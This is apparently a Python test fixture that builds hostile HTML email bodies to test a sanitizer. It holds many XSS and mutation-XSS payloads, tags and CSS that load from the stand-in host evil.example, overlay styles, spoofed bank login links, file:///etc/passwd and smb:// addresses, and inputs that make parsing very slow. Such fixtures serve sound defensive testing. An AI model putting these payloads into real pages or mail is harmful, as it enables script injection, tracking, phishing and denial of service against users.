"""HTML that tries to run, load, send or escape; each calls `pwned()` or a host of its own where it succeeds."""

from collections.abc import Iterator

HOST = "https://evil.example"


def attempts() -> Iterator[str]:
    """Each a body of a mail. A text `visible` stands in all of them."""
    for attempt in (*_scripts(), *_loading(), *_mutating(), *_leaving(), *_addresses(), *_heavy()):
        yield f"<p>visible</p>{attempt}<p>end</p>"


def _scripts() -> Iterator[str]:
    yield "<script>pwned()</script>"
    yield "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"
    yield "<scr<script>ipt>pwned()</scr</script>ipt>"
    yield "<script\n>pwned()"
    yield "<script/x>pwned()</script>"
    yield "<<script>pwned();//<</script>"
    yield "<style><script>pwned()</script></style>"
    yield "<title><script>pwned()</script></title>"
    yield '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>'
    for handler in (
        "onerror",
        "onload",
        "OnMouseOver",
        "onfocus",
        "onbegin",
        "ontoggle",
        "onpointerenter",
        "onanimationstart",
    ):
        yield f"<img src=x {handler}=pwned()>"
        yield f"<img src=x/{handler}=pwned()>"
        yield f'<svg {handler}="pwned()"><animate {handler}=pwned() attributeName=x dur=1s>'
        yield f"<a href=x {handler}=&#112;wned()>x</a>"
    yield "<details open ontoggle=pwned()>x</details>"
    yield "<body onload=pwned()>"
    yield "<input autofocus onfocus=pwned()>"
    yield "<video><source onerror=pwned()></video>"
    yield "<audio src=x onerror=pwned()>"
    yield "<marquee onstart=pwned()>x</marquee>"
    yield "<img src=`x` onerror=pwned()>"
    yield "<img \0src=x \0onerror=pwned()>"
    yield "<img src=x\u000bonerror=pwned()>"
    yield "<svg><script>pwned()</script></svg>"
    yield "<svg><script href=data:text/javascript,pwned() /></svg>"
    yield "<math><mi xlink:href='javascript:pwned()'>x</mi></math>"
    yield "<object data='data:text/html,<script>pwned()</script>'></object>"
    yield "<embed src='data:image/svg+xml,<svg onload=pwned()>'>"
    yield "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>"
    yield "<template><script>pwned()</script></template>"
    yield "<isindex type=image src=1 onerror=pwned()>"
    yield "<xml id=i><x><c><![CDATA[<img src=x onerror=pwned()>]]></c></x></xml>"
    yield "<?xml version='1.0'?><?import namespace=x implementation=y?>"


def _loading() -> Iterator[str]:
    for tag in (
        "img src",
        "video poster",
        "audio src",
        "embed src",
        "object data",
        "iframe src",
        "input type=image src",
    ):
        yield f"<{tag}={HOST}/load.png>"
        yield f"<{tag}=//evil.example/load.png>"
    yield f"<img srcset='{HOST}/a.png 1x, {HOST}/b.png 2x'>"
    yield f"<picture><source srcset={HOST}/a.png><img src={HOST}/b.png></picture>"
    yield f"<img src=' \n{HOST}/a.png '>"
    yield "<img src='https:/\\evil.example/a.png'>"
    yield "<img src='\\\\evil.example\\a.png'>"
    yield "<img src='/\\evil.example/a.png'>"
    yield "<img src='relative.png'><img lowsrc=//evil.example/l.png>"
    yield f"<table background={HOST}/a.png><tr><td background={HOST}/b.png>x</td></tr></table>"
    yield f"<body background={HOST}/a.png>"
    for value in (
        f"background:url({HOST}/a.png)", f"background-image:url('{HOST}/a.png')", f"background:u\\72l({HOST}/a.png)",
        f"list-style-image:url({HOST}/a.png)", f"background:image-set('{HOST}/a.png' 1x)", f"content:url({HOST}/a)",
        f"border-image:url({HOST}/a.png)", f"cursor:url({HOST}/a.cur),auto", f"--x:url({HOST}/a);background:var(--x)",
        f"background:/**/url/**/({HOST}/a.png)",
        f"background:URL\t({HOST}/a.png)", f"width:calc(1px);behavior:url({HOST})",
        "width:expression(pwned())", "-moz-binding:url(//evil.example/x.xml#a)",
        f"background:cross-fade(url({HOST}/a),red)",
        "color:red;background:url(//evil.example/a.png) fixed", f"font-family:x;src:url({HOST}/f.woff)",
    ):  # fmt: skip
        yield f'<div style="{value}">x</div>'
    yield f"<style>@import '{HOST}/x.css'; body{{background:url({HOST}/a.png)}}</style>"
    yield f"<style>@font-face{{font-family:x;src:url({HOST}/f.woff)}} p{{font-family:x}}</style>"
    for kind in (
        "stylesheet",
        "prefetch",
        "preload",
        "dns-prefetch",
        "preconnect",
        "icon",
        "prerender",
        "modulepreload",
    ):
        yield f"<link rel={kind} href={HOST}/x as=style>"
    yield f"<meta http-equiv=refresh content='0;url={HOST}/away'>"
    yield "<meta http-equiv=refresh content='0;url=javascript:pwned()'>"
    yield f"<base href={HOST}/><img src=a.png><a href=b>x</a>"
    yield f"<bgsound src={HOST}/a.mid><frameset><frame src={HOST}></frameset>"
    yield f"<svg><image href={HOST}/a.png /><use href={HOST}/a.svg#x /></svg>"
    yield f"<a href={HOST} ping={HOST}/ping>x</a>"
    yield f"<form action={HOST}><input name=q><button>go</button></form>"
    yield f"<form id=f action={HOST}></form><button form=f formaction={HOST}/2>x</button><input type=submit form=f>"
    yield f"<blockquote cite={HOST}>x</blockquote><q cite={HOST}>x</q>"
    yield f"<div data-remote-src={HOST}/a.png><img data-remote-src='javascript:pwned()'></div>"
    yield f"<v:rect xmlns:v='urn:x'><v:fill src={HOST}/a.png /></v:rect><!--[if mso]><img src={HOST}/a.png><![endif]-->"


def _mutating() -> Iterator[str]:
    """HTML that becomes another when it is written and read again."""
    yield '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">'
    yield '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">'
    yield "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>"
    yield "<math><annotation-xml encoding='text/html'><style><img src=x onerror=pwned()></style></annotation-xml>"
    yield "<svg><desc><noscript></desc><img src=x onerror=pwned()></noscript>"
    yield "<svg><foreignObject><p><style></p><img src=x onerror=pwned()></style></foreignObject></svg>"
    yield "<table><tr><td><svg><a xlink:href=javascript:pwned()><text y=1em>x</text></a></svg></table>"
    yield "<p title='`onmouseover=pwned() '>x</p><div title='\"><img src=x onerror=pwned()>'>x</div>"
    yield "<!-- --!><img src=x onerror=pwned()> -->"
    yield "<!--><img src=x onerror=pwned()>-->"
    yield "<!---><img src=x onerror=pwned()>-->"
    yield "<!-- ` --><img src=x onerror=pwned()><!-- -->"
    yield "<comment><img src='</comment><img src=x onerror=pwned()>'></comment>"
    yield "<textarea></textarea><img src=x onerror=pwned()></textarea>"
    yield "<xmp><p title='</xmp><img src=x onerror=pwned()>'></xmp>"
    yield "<noembed><p title='</noembed><img src=x onerror=pwned()>'></noembed>"
    yield "<plaintext><img src=x onerror=pwned()>"
    yield "<select><style></select><img src=x onerror=pwned()></style>"
    yield "<a href='\x01javascript:pwned()'>x</a><a href='java\nscript:pwned()'>x</a>"
    yield "<p id=document name=cookie>x</p><a id=pwned href=x></a><img name=getElementById>"
    yield "<img alt='<img src=x onerror=pwned()>' title='--><script>pwned()</script>'>"
    yield "<svg><style>&lt;img src=x onerror=pwned()&gt;</style></svg>"


def _leaving() -> Iterator[str]:
    """Text that lies over what is not the mail's."""
    for value in (
        "position:fixed;top:0;left:0;width:100%;height:100%", "position:absolute;z-index:99999", "margin-top:-5000px",
        "transform:scale(99)", "text-indent:-999em", "animation:x 1s", "filter:invert(1)", "position:sticky",
        "pos\\69tion:fixed", "margin:0 0 0 -400px", "top:0;position : fixed !important",
    ):  # fmt: skip
        yield f'<div style="{value}">x</div>'


def _addresses() -> Iterator[str]:
    for address in (
        "javascript:pwned()", "JaVaScRiPt:pwned()", "&#106;avascript:pwned()",
        "java&#9;script:pwned()", " javascript:pwned()",
        "javascript&colon;pwned()", "data:text/html,<script>pwned()</script>", "vbscript:pwned()", "file:///etc/passwd",
        "smb://evil.example/x", "ms-word:ofe|u|https://evil.example/x", "view-source:https://x.y", "blob:https://x/y",
        "//evil.example", "/local", "x", "#top", "ftp://evil.example", "search-ms:query=x", "about:blank", "intent:x",
        "http:evil.example", "http:///evil.example", "https://user:pw@bank.example@evil.example/", "tel:javascript",
    ):  # fmt: skip
        yield f'<a href="{address}">x</a><area href="{address}">'
        yield f'<img src="{address}"><font color="{address}">x</font>'
    yield f"<a href={HOST}>https://bank.example/login</a>"
    yield "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4='>"
    yield "<img src='data:text/html;base64,PHNjcmlwdD4='>"
    yield "<img src='cid:x\" onerror=pwned() y=\"'>"


def _heavy() -> Iterator[str]:
    """HTML whose parsing costs by the square of its length."""
    yield "<div>" * 5_000
    yield "<ul><li>" * 40_000
    yield "<div>" * 60_000 + "<p>" * 60_000
    yield "<p>" + "".join(f"<b title={n}>" for n in range(3_000)) + "</p>" + "<p>x</p>" * 3_000
    yield "<p>" + "".join(f"<font size={n}><!--</font>-->" for n in range(3_000)) + "<p>x</p>" * 3_000
    yield "<table><tr><td>" * 20_000
    yield "<a " + " ".join(f"a{n}=1" for n in range(50_000)) + ">x</a>"
    yield "<a " + "a " * 100_000 + ">x</a>"
    yield "<script" * 50_000
    yield "<!--" * 100_000
    yield "<a b='" * 50_000
    yield '<a b="' * 50_001
    yield "<p style='" + "color:red;" * 50_000 + "'>x</p>"
    yield "&amp" * 100_000 + "&#" * 50_000
    yield "<" * 200_000
    yield "</" * 100_000
